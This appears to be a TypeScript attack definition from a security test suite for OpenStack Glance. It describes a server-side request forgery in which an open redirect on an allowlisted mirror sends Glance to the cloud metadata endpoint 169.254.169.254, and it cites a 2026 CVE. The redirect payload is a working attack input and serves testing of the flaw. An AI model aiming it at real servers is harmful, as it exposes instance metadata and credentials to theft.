// Redirect from an allowlisted host to the metadata service.
import { createUrlAttack } from '../mechanisms/url-attack';

export const attack = createUrlAttack({
  id: 'ssrf-redirect-to-metadata',
  title: 'Redirect from an allowlisted host to the metadata service',
  severity: 'critical',
  words:
    'Unpatched Glance checks the first URL only and follows redirects anywhere: an open redirect on a trusted mirror is enough.',
  references: ['CVE-2026-34881 (OSSA-2026-004)', 'LP#2138675'],
  urls: ({ scheme, allowedHost }) => [`${scheme}://${allowedHost}/redirect`],
  redirectsTo: () => 'http://169.254.169.254/latest/meta-data/',
});
